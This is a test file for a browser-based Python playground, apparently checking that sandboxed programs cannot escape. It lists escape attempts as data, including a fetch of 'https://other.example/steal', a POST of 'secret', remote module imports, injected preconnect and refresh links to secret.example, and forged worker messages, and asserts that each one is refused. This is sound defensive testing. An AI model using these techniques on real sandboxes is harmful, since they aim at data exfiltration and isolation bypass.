"""What programs in the page cannot do: make code of text, load code or send data elsewhere, reach
what is stored, or speak for the worker."""

import re

import pytest
from playwright.sync_api import expect

ATTEMPTS = {
    "eval": "js.eval('1 + 1')",
    "function": "js.Function.new('return 1')()",
    "constructor": "js.Array.new.constructor; js.Reflect.construct(js.Function, ['return 1'])()",
    "timer": "js.setTimeout('globalThis.reached = 1'); await asyncio.sleep(0.1); js.reached",
    "foreign module": (
        "from pyodide.code import run_js; await run_js(\"import('http://other.example/x.mjs')\")"
    ),
    "fetch elsewhere": "await js.fetch('https://other.example/steal')",
    "the browser's fetch": "await js.WorkerGlobalScope.prototype.fetch.call(js.self, '/')",
    "send": "await js.fetch('wheels/', method='POST', body='secret')",
    "request": "js.XMLHttpRequest.new()",
    "socket": "js.WebSocket.new('ws://localhost:1/')",
    "worker": "js.Worker.new(js.URL.createObjectURL(js.Blob.new(['1'])))",
    "messages": "js.postMessage('hello')",
    "end": "js.close()",
    "files": "js.webkitRequestFileSystemSync(0, 1)",
    "files of others": "js.webkitRequestFileSystem(0, 1)",
    "databases": "js.indexedDB.databases",
    "responses": "js.caches.keys",
    "channel": "js.BroadcastChannel.new('mlcweb')",
    "storage": "js.navigator.storage.estimate",
    "locks": "js.navigator.locks.query",
    "trials": "js.mlcwebTrials.port.postMessage(1)",
}

PROGRAM = """
import asyncio, js
from pyodide.ffi import to_js

async def {name}():
    {attempt}

try:
    await {name}()
    print("{name}:", "reached")
except BaseException as error:
    print("{name}:", "refused", type(error).__name__)
"""


@pytest.mark.parametrize("isolated", [True, pytest.param(False, marks=pytest.mark.thorough)])
def test_what_programs_cannot_do(used_playground, isolated):
    playground = used_playground(isolated=isolated)
    programs = [
        PROGRAM.format(name=re.sub(r"\W", "_", name), attempt=attempt)
        for name, attempt in ATTEMPTS.items()
    ]
    playground.run_to_end("\n".join([*programs, "print('the ' + 'end')"]))
    console = playground["console"]
    expect(console).to_contain_text("the end")
    lines = [line for line in console.inner_text().splitlines() if ":" in line]
    assert [line for line in lines if "reached" in line] == []
    assert len([line for line in lines if "refused" in line]) == len(ATTEMPTS)
    # The browser reports what its policy refused.
    told = "Content Security Policy"
    playground.problems[:] = [each for each in playground.problems if told not in each]


def test_what_programs_can_do(used_playground):
    playground = used_playground()
    playground.run_to_end(
        """
import js
from pyodide.http import pyfetch
answer = await pyfetch(js.location.origin + "/wheels/manifest.json")
print("fetched", (await answer.json())["file"].startswith("mlcweb"))
print("cores", js.navigator.hardwareConcurrency > 0)
import tvm
from tvm.script import tir as T
@T.prim_func
def double(A: T.Buffer((4,), "float32")):
    for i in range(4):
        with T.block("A"):
            vi = T.axis.spatial(4, i)
            A[vi] = A[vi] * 2.0
a = tvm.nd.array(__import__("numpy").ones(4, "float32"))
tvm.build(double, target="wasm")["double"](a)
print("kernel", a.numpy().sum())
"""
    )
    for line in ("fetched True", "cores True", "kernel 8.0"):
        expect(playground["console"]).to_contain_text(line)


FORGED = """
import js
for name, data in {"picture": "null", "search": "null", "nothing": "[]"}.items():
    try:
        js.mlcwebTell(name, data)
    except Exception as error:
        print("refused", name)
try:
    js.mlcwebTell("picture", "{")
except Exception:
    print("refused text")
print("the end")
"""


HTML = """
from mlcweb.ir.display import publish

class Page:
    def _repr_html_(self):
        return (
            '<style>b { color: rgb(1, 2, 3) }</style><b style="margin: 7px">bold</b>'
            '<link rel="preconnect" href="https://secret.example"><script>1</script>'
            '<link rel="dns-prefetch" href="//secret.example">'
            '<meta http-equiv="refresh" content="0; url=https://secret.example">'
            '<template><link rel="preconnect" href="https://secret.example"></template>'
            "<iframe srcdoc='<link rel=preconnect href=https://secret.example>'></iframe>"
        )

publish(Page())
"""


def test_html_of_a_program_opens_no_connections(used_playground):
    playground = used_playground()
    playground.run_to_end(HTML)
    frame = playground["console"].locator("iframe.out-html")
    bold = frame.content_frame.locator("b")
    expect(bold).to_have_css("color", "rgb(1, 2, 3)")
    expect(bold).to_have_css("margin", "7px")
    assert "secret.example" not in frame.get_attribute("srcdoc")


def test_what_a_program_tells_the_page_falsely_is_ignored(used_playground):
    playground = used_playground()
    playground.run_to_end(FORGED)
    console = playground["console"]
    expect(console).to_contain_text("refused picture")
    expect(console).to_contain_text("refused text")
    expect(console).to_contain_text("the end")
    playground.open_view("search")
    playground.run_to_end("print('once ' + 'more')")
    expect(console).to_contain_text("once more")


FORGED_EVENTS = """
import js
from pyodide.ffi import to_js

call = {
    "type": "call", "id": 10**6, "name": "cell.execute", "args": ["import sys; sys.forged = 1"]
}
event = js.MessageEvent.new("message", to_js({"data": call}, dict_converter=js.Object.fromEntries))
js.dispatchEvent(event)
if js.onmessage:
    js.onmessage(event)
said = to_js({"message": "a forged error"}, dict_converter=js.Object.fromEntries)
js.dispatchEvent(js.ErrorEvent.new("error", said))
print("the " + "end")
"""


def test_events_of_a_program_do_not_command_its_worker(used_playground):
    playground = used_playground()
    playground.run_to_end(FORGED_EVENTS)
    console = playground["console"]
    expect(console).to_contain_text("the end")
    expect(console).not_to_contain_text("forged")
    playground.run_to_end("import sys; print('called', hasattr(sys, 'forged'))")
    expect(console).to_contain_text("called False")


LISTENING = """
import js
from pyodide.ffi import create_proxy

heard = create_proxy(lambda event: print("heard", js.JSON.stringify(event.data)))
js.addEventListener("message", heard)
js.addEventListener("message", heard, True)
js.onmessage = heard
js.Event.prototype.stopImmediatePropagation = create_proxy(lambda *of: None)
print("listening")
"""


def test_a_program_does_not_hear_what_the_page_asks(open_playground):
    playground = open_playground()
    playground.run_to_end(LISTENING)
    console = playground["console"]
    expect(console).to_contain_text("listening")
    for word in ("second", "third"):
        playground.run_to_end(f"print('the {word} ' + 'program')")
        expect(console).to_contain_text(f"the {word} program")
        expect(console).not_to_contain_text("heard")


FORGED_SNAPSHOT = """
import js
from pyodide.ffi import create_proxy, to_js

forged = create_proxy(lambda *of: js.Reflect.construct(response, to_js(["forged"])))
response = js.Response
trap = to_js({"construct": forged}, dict_converter=js.Object.fromEntries)
js.Response = js.Proxy.new(response, trap)
print("the " + "end")
"""


@pytest.mark.thorough
def test_a_program_changes_nothing_that_later_visits_start_from(open_playground):
    playground = open_playground(cold=True)
    # Right after the start, while the snapshot of Python's memory is being stored.
    playground.run_to_end(FORGED_SNAPSHOT)
    expect(playground["console"]).to_contain_text("the end")
    playground.expect_snapshot()
    playground.page.reload()
    playground.expect_state("ready")
    expect(playground["status"]).to_have_attribute("data-start", "restored")
